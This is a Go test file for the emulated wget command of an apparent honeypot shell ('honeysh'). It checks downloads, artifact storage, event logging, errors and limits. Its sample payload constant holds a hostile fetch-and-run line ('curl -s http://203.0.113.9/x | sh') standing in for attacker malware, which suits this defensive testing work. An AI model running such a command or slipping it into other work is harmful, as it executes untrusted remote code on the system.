package builtins

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/amv42/honeysh/internal/artifact"
	"github.com/amv42/honeysh/internal/event"
	"github.com/amv42/honeysh/internal/vfs"
)

const payload = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"

type payloadServer struct {
	*httptest.Server
	agent atomic.Value
}

func newPayloadServer(t *testing.T) *payloadServer {
	t.Helper()
	ps := &payloadServer{}
	ps.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ps.agent.Store(r.UserAgent())
		if r.URL.Path != "/bot.sh" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/x-sh")
		_, _ = w.Write([]byte(payload))
	}))
	t.Cleanup(ps.Close)
	return ps
}

func newStoreFixture(t *testing.T) (*fixture, *artifact.Store) {
	t.Helper()
	store, err := artifact.Open(t.TempDir())
	require.NoError(t, err)
	f := newFixture(t, vfs.WithContent(store))
	f.rt.Downloads = store
	return f, store
}

func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

func TestWget_Download(t *testing.T) {
	srv := newPayloadServer(t)
	f, store := newStoreFixture(t)

	status, out, errOut := f.run("cd /tmp; wget " + srv.URL + "/bot.sh")
	require.Equal(t, 0, status, errOut)
	assert.Empty(t, out)
	assert.Equal(t, wgetAgent, srv.agent.Load())
	assert.Contains(t, errOut, "HTTP request sent, awaiting response... 200 OK")
	assert.Contains(t, errOut, "[application/x-sh]")
	assert.Contains(t, errOut, "Saving to: 'bot.sh'")
	assert.Contains(t, errOut, fmt.Sprintf("'bot.sh' saved [%d/%d]", len(payload), len(payload)))

	assert.Equal(t, payload, f.read(t, "/tmp/bot.sh"))
	info, err := f.fs.Stat("/tmp/bot.sh")
	require.NoError(t, err)
	assert.Equal(t, sha256Hex(payload), info.Artifact())
	assert.True(t, store.Has(sha256Hex(payload)))

	events := f.events.OfType(event.FileDownload)
	require.Len(t, events, 1)
	fields := events[0].Fields
	assert.Equal(t, srv.URL+"/bot.sh", fields["url"])
	assert.Equal(t, sha256Hex(payload), fields["shasum"])
	assert.Equal(t, "/tmp/bot.sh", fields["destfile"])
	assert.Equal(t, int64(len(payload)), fields["size"])
	assert.Equal(t, false, fields["duplicate"])
	assert.Equal(t, store.Path(sha256Hex(payload)), fields["outfile"])
}

func TestWget_DuplicateContent(t *testing.T) {
	srv := newPayloadServer(t)
	f, _ := newStoreFixture(t)

	f.run("wget -q " + srv.URL + "/bot.sh")
	status, _, _ := f.run("wget -q -O /tmp/again.sh " + srv.URL + "/bot.sh")
	assert.Equal(t, 0, status)

	downloads := f.events.OfType(event.FileDownload)
	require.Len(t, downloads, 2)
	assert.Equal(t, true, downloads[1].Fields["duplicate"])
	assert.Len(t, f.events.OfType(event.ArtifactDuplicate), 1)
	assert.Equal(t, payload, f.read(t, "/tmp/again.sh"))
	assert.Equal(t, payload, f.read(t, "/root/bot.sh"))
}

func TestWget_NotFound(t *testing.T) {
	srv := newPayloadServer(t)
	f, _ := newStoreFixture(t)

	status, _, errOut := f.run("wget " + srv.URL + "/missing")
	assert.Equal(t, wgetServerError, status)
	assert.Contains(t, errOut, "ERROR 404: Not Found.")
	assert.False(t, f.fs.Exists("/root/missing"))
	assert.Len(t, f.events.OfType(event.FileDownloadFailed), 1)
	assert.Empty(t, f.events.OfType(event.FileDownload))
}

func TestWget_ConnectionRefused(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	target := srv.URL + "/x"
	srv.Close()
	f := newFixture(t)

	status, _, errOut := f.run("wget " + target)
	assert.Equal(t, wgetNetworkError, status)
	assert.Contains(t, errOut, "failed: Connection refused.")
	failed := f.events.OfType(event.FileDownloadFailed)
	require.Len(t, failed, 1)
	assert.Equal(t, target, failed[0].Fields["url"])
}

func TestWget_Stdout(t *testing.T) {
	srv := newPayloadServer(t)
	f, _ := newStoreFixture(t)

	status, out, errOut := f.run("wget -O - " + srv.URL + "/bot.sh")
	assert.Equal(t, 0, status)
	assert.Equal(t, payload, out)
	assert.Contains(t, errOut, "Saving to: 'STDOUT'")
	assert.False(t, f.fs.Exists("/root/-"))

	events := f.events.OfType(event.FileDownload)
	require.Len(t, events, 1)
	assert.Equal(t, "-", events[0].Fields["destfile"])
}

func TestWget_SizeLimit(t *testing.T) {
	srv := newPayloadServer(t)
	f, store := newStoreFixture(t)
	f.rt.DownloadLimit = 10

	status, _, _ := f.run("wget -q " + srv.URL + "/bot.sh")
	assert.Equal(t, 0, status)
	info, err := f.fs.Stat("/root/bot.sh")
	require.NoError(t, err)
	assert.Equal(t, int64(len(payload)), info.Size())
	assert.Empty(t, info.Artifact())
	assert.False(t, store.Has(sha256Hex(payload)))
	assert.Empty(t, f.events.OfType(event.FileDownload))
}

func TestWget_WithoutStore(t *testing.T) {
	srv := newPayloadServer(t)
	f := newFixture(t)

	status, _, _ := f.run("wget -q -P /tmp " + srv.URL + "/bot.sh")
	assert.Equal(t, 0, status)
	assert.Equal(t, payload, f.read(t, "/tmp/bot.sh"))
	assert.Empty(t, f.events.OfType(event.FileDownload))
}

func TestWget_RateLimited(t *testing.T) {
	srv := newPayloadServer(t)
	f, _ := newStoreFixture(t)
	f.rt.DownloadRate = 1 << 20

	status, _, _ := f.run("wget -q " + srv.URL + "/bot.sh")
	assert.Equal(t, 0, status)
	assert.Equal(t, payload, f.read(t, "/root/bot.sh"))
}

func TestWget_Errors(t *testing.T) {
	f := newFixture(t)

	status, _, errOut := f.run("wget")
	assert.Equal(t, 1, status)
	assert.Equal(t, "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry 'wget --help' for more options.\n", errOut)

	status, _, errOut = f.run("wget -O /nodir/x http://127.0.0.1:1/x")
	assert.Equal(t, wgetFileError, status)
	assert.Equal(t, "wget: /nodir/x: Cannot open: No such file or directory\n", errOut)

	status, _, errOut = f.run("wget ftp://example.com/x")
	assert.Equal(t, 1, status)
	assert.Equal(t, "ftp://example.com/x: Unsupported scheme.\n", errOut)
}

func TestOutputName(t *testing.T) {
	tests := []struct {
		raw  string
		fo   fetchOptions
		want string
	}{
		{"http://h/a/b.tgz", fetchOptions{}, "b.tgz"},
		{"http://h/", fetchOptions{}, "index.html"},
		{"http://h", fetchOptions{}, "index.html"},
		{"http://h/a/", fetchOptions{prefix: "/tmp"}, "/tmp/index.html"},
		{"http://h/x", fetchOptions{output: "y"}, "y"},
	}
	for _, tt := range tests {
		u, err := url.Parse(tt.raw)
		require.NoError(t, err)
		assert.Equal(t, tt.want, outputName(u, tt.fo), tt.raw)
	}
}

func TestRateLimitedReader_ClipsToBurst(t *testing.T) {
	src := bytes.NewReader(bytes.Repeat([]byte("a"), 1000))
	r := newRateLimitedReader(context.Background(), src, newBWLimiter(100))
	buf := make([]byte, 1000)
	n, err := r.Read(buf)
	require.NoError(t, err)
	assert.Equal(t, 100, n)
}

func TestThousands(t *testing.T) {
	assert.Equal(t, "0", thousands(0))
	assert.Equal(t, "999", thousands(999))
	assert.Equal(t, "1,000", thousands(1000))
	assert.Equal(t, "12,345,678", thousands(12345678))
	assert.True(t, strings.HasPrefix(humanSize(2048), "2.0K"))
}
